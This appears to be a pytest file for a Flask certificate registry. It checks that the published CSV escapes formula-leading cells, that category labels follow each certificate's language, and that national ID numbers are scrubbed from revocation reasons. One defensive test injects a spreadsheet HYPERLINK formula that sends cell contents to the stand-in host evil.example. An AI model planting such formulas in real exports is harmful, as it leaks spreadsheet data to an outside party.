"""The published list as a spreadsheet opens it, and free text shown publicly without IINs."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any
from urllib.parse import urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import update

from service.core.db import Database
from service.verification.models import DocumentFacts
from service.verification.privacy import IDENTIFIER_BLANKED

Example = Any


def issue(client: FlaskClient, example: Example, decision_id: str, language: str = "kk",
          **holder: str) -> dict[str, Any]:
    body = example("certificate", language)
    body["decision"]["decision_id"] = decision_id
    body["decision"]["holder"].update(holder)
    response = client.post("/api/v1/documents", json=body)
    assert response.status_code == 201, response.get_json()
    answer: dict[str, Any] = response.get_json()
    return answer


def csv_rows(client: FlaskClient) -> list[list[str]]:
    response = client.get("/published/KRG.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_text(
    app: Flask, client: FlaskClient, anonymous_client: FlaskClient, example: Example, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    receipt = issue(client, example, "csv-1")
    issue(client, example, "csv-2", given_name="Әсел")
    # whatever the input rules of the day let through (or let through once): the stored facts
    database: Database = app.extensions["qujat.database"]
    with database.write() as session:
        session.execute(update(DocumentFacts).where(
            DocumentFacts.document_id == uuid.UUID(receipt["id"])).values(
                surname=f"{start}SUM(1+1)", workplace=formula))
    rows = csv_rows(anonymous_client)
    assert rows[0] == ["name", "organisation", "category"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert f"'{start}SUM(1+1) Айгүл Бекқызы" in cells
    assert f"'{formula}" in cells
    # an ordinary cell is left as it is, and the JSON keeps the text untouched
    assert "Ахметова Әсел Бекқызы" in cells
    names = [e["name"] for e in anonymous_client.get("/published/KRG.json").get_json()["entries"]]
    assert f"{start}SUM(1+1) Айгүл Бекқызы" in names


def test_each_row_gives_the_category_in_its_certificates_language(
    client: FlaskClient, anonymous_client: FlaskClient, example: Example
) -> None:
    issue(client, example, "lang-kk", "kk")
    issue(client, example, "lang-ru", "ru")
    rows = csv_rows(anonymous_client)[1:]
    by_name = {row[0]: row[2] for row in rows}
    assert by_name == {"Ахметова Айгүл Бекқызы": "педагог-сарапшы",
                       "Ахметова Айгуль Бекеновна": "педагог-эксперт"}
    for query in ("", "?lang=ru", "?lang=kk"):
        entries = anonymous_client.get(f"/published/KRG.json{query}").get_json()["entries"]
        assert {e["name"]: (e["category_label"], e["language"]) for e in entries} == {
            "Ахметова Айгүл Бекқызы": ("педагог-сарапшы", "kk"),
            "Ахметова Айгуль Бекеновна": ("педагог-эксперт", "ru")}
        page = anonymous_client.get(f"/published/KRG{query}").get_data(as_text=True)
        assert "<td>педагог-эксперт</td>" in page
        assert "<td>педагог-сарапшы</td>" in page


def test_an_iin_in_a_revocation_reason_is_never_shown(
    client: FlaskClient, anonymous_client: FlaskClient, example: Example
) -> None:
    receipt = issue(client, example, "iin-1")
    number = receipt["registration_number"]
    token = urlsplit(receipt["links"]["verify"]).query
    reason = "Жалоба Ахметовой (ИИН 850314 409261), решение апелляционной комиссии"
    response = client.post(f"/api/v1/documents/{receipt['id']}/revocation", json={
        "reason": reason, "act": {"number": "А-17", "date": "2026-11-23"}})
    assert response.status_code == 201, response.get_json()
    scrubbed = f"Жалоба Ахметовой (ИИН {IDENTIFIER_BLANKED}), решение апелляционной комиссии"
    shown = anonymous_client.get(f"/api/v1/verify/{number}?{token}").get_json()
    assert shown["revocation"]["reason"] == scrubbed
    page = anonymous_client.get(f"/verify/{number}?{token}").get_data(as_text=True)
    assert scrubbed in page
    # by the number alone the reason is not shown at all
    assert anonymous_client.get(f"/api/v1/verify/{number}").get_json()[
        "revocation"]["reason"] is None
    for path in (f"/verify/{number}", f"/verify/{number}?{token}", f"/api/v1/verify/{number}",
                 f"/api/v1/verify/{number}?{token}&signers=1"):
        content = anonymous_client.get(path).get_data(as_text=True)
        assert "409261" not in content, path
        assert "850314" not in content, path
    # the registry keeps what the platform sent
    history = client.get(f"/api/v1/documents/{receipt['id']}").get_json()["history"]
    assert history[-1]["details"]["reason"] == reason
